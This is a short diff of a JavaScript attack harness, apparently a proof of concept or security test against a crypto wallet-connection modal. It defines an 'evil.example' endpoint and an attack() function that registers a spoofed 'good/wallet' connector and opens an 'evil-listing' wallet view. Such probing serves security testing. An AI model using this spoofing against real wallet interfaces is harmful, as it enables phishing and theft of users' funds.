@@ -17,7 +17,7 @@ const store = 'https://evil.example/get'
 export async function attack() {
   let views
   const connector = {
-    id: 'good-wallet',
+    id: 'good/wallet',
     type: 'ANNOUNCED',
     namespaces: ['eip155'],
     connect: () => new Promise(() => {}),
@@ -55,7 +55,7 @@ export async function attack() {
   })
   await until(() => views, 'its set-up')
   const card = () => document.querySelector('kit-modal')?.shadowRoot
-  views.open({ id: 'Downloads' }, { walletId: 'evil-listing', connectorId: 'good-wallet' })
+  views.open({ id: 'Downloads' }, { walletId: 'evil-listing', connectorId: 'good/wallet' })
   await until(() => card()?.textContent.includes('Nice'), 'its wallet', 10_000).catch(() => {})
   await settled(40)
   const title = card()?.querySelector('h2')?.textContent ?? ''
